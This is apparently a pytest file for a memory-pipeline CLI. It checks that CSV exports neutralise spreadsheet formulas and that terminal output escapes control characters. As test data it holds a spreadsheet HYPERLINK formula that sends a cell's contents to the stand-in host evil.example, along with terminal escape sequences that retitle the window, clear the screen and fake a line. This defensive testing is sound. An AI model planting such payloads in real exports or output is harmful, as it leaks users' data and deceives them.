"""What the CLI prints or exports cannot act on the reader's tools: a spreadsheet opening a
CSV export, or the terminal showing a memory."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kore_pipeline.cli.app import app
from kore_pipeline.lake.publish import publish
from kore_pipeline.memory import Memory
from kore_pipeline.settings import KoreSettings
from kore_pipeline.store.db import connect
from tests.helpers import extracted_home, message

runner = CliRunner()
NOW = "2026-09-10T12:00:00Z"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A2)"]


def _published(tmp_path: Path, texts: list[str]) -> KoreSettings:
    settings = extracted_home(tmp_path, [message(t, message_id=f"m{i}")
                                         for i, t in enumerate(texts)])
    conn = connect(settings.db_path())
    try:
        publish(conn, settings.lake_dir(), settings)
    finally:
        conn.close()
    return settings


def test_sql_csv_escapes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
    settings = _published(tmp_path, [*FORMULAS, "I drink green tea."])
    result = runner.invoke(app, ["sql", "SELECT text, -5 AS delta FROM messages ORDER BY text",
                                 "--format", "csv", "--home", str(settings.home)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["text", "delta"]
    cells = {r[0] for r in rows[1:]}
    assert cells == {*(f"'{t}" for t in FORMULAS), "I drink green tea."}
    assert {r[1] for r in rows[1:]} == {"-5"}  # a number stays a number


def test_sql_csv_escapes_a_leading_tab_or_return(tmp_path: Path) -> None:
    settings = _published(tmp_path, ["I drink green tea."])
    statement = "SELECT chr(9) || '=1+2' AS tab, chr(13) || '=1+2' AS cr FROM messages"
    result = runner.invoke(app, ["sql", statement, "--format", "csv", "--home",
                                 str(settings.home)])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.stdout)))[1] == ["'\t=1+2", "'\r=1+2"]


def test_sql_csv_to_a_file_is_escaped_too(tmp_path: Path) -> None:
    settings = _published(tmp_path, ["=1+2"])
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["sql", "SELECT text AS \"=col\" FROM messages", "--format",
                                 "csv", "--out", str(out), "--home", str(settings.home)])
    assert result.exit_code == 0, result.output
    assert list(csv.reader(out.open())) == [["'=col"], ["'=1+2"]]


HOSTILE = ("I prefer green tea \x1b]0;pwned\x07 with \x1b[2J\x1b[31mhoney\x1b[0m,"
           " \x9b31m and \u202egnirts\r faked line")
UNSAFE = ["\x1b", "\x07", "\x9b", "\u202e", "\r"]


def on_terminal(*args: str) -> tuple[int, str]:
    """Run ``kore ARGS`` with a pseudo-terminal as its output, as a user at a shell does;
    the exit code and everything the terminal received."""
    master, slave = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2]), "TERM": "xterm"}
    proc = subprocess.Popen([sys.executable, "-m", "kore_pipeline.cli", *args], stdin=slave,
                            stdout=slave, stderr=slave, env=env)
    os.close(slave)
    received = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        received += chunk
    os.close(master)
    # the terminal turns each newline into CR LF: undone, so a CR left is one kore printed
    return proc.wait(timeout=120), received.decode("utf-8").replace("\r\n", "\n")


def _saved(tmp_path: Path) -> KoreSettings:
    settings = KoreSettings(home=tmp_path / "home")
    mem = Memory(settings=settings)
    try:
        mem.save(HOSTILE, "team-alpha", subject="Bob", now=NOW)
        # the API refuses control characters in a subject; a store written before it did, or
        # by hand, may still hold one
        with mem.conn:
            mem.conn.execute("UPDATE memories SET subject = ?", ("Bob\x1b[8m hidden",))
    finally:
        mem.close()
    return settings


def _shown_safely(args: list[str]) -> str:
    code, shown = on_terminal(*args)
    assert code == 0, shown
    assert "honey" in shown and "Bob" in shown, shown
    for raw in UNSAFE:
        assert raw not in shown, (args[0], raw, shown)
    assert "\\x1b]0;pwned\\x07" in shown and "\\u202e" in shown  # visible, not acted on
    return shown


def test_search_shows_control_characters_escaped(tmp_path: Path) -> None:
    settings = _saved(tmp_path)
    common = ["--owner", "team-alpha", "--home", str(settings.home), "--now", NOW]
    shown = _shown_safely(["search", "green tea", "--mode", "fts", *common])
    assert len(shown.strip().splitlines()) == 3  # one hit: its three lines, none faked
    hits = runner.invoke(app, ["search", "green tea", "--mode", "fts", "--json", *common])
    assert json.loads(hits.stdout)[0]["content"] == HOSTILE  # the stored text is unchanged


@pytest.mark.slow
def test_context_shows_control_characters_escaped_on_a_terminal(tmp_path: Path) -> None:
    """On a terminal the block is made visible; piped to a program it is exact."""
    settings = _saved(tmp_path)
    common = ["--owner", "team-alpha", "--home", str(settings.home), "--now", NOW]
    _shown_safely(["context", "green tea", *common])
    piped = runner.invoke(app, ["context", "green tea", "--no-reinforce", *common])
    assert piped.exit_code == 0 and "\x1b]0;pwned\x07" in piped.stdout


def test_sql_table_and_tsv_show_control_characters_escaped(tmp_path: Path) -> None:
    settings = _published(tmp_path, ["I like \x1b[2Jtea\tand\ncake."])
    for fmt in ("table", "tsv"):
        result = runner.invoke(app, ["sql", "SELECT text FROM messages", "--format", fmt,
                                     "--home", str(settings.home)])
        assert result.exit_code == 0, result.output
        assert "I like \\x1b[2Jtea\\tand\\ncake." in result.stdout, fmt
        assert "\x1b" not in result.stdout
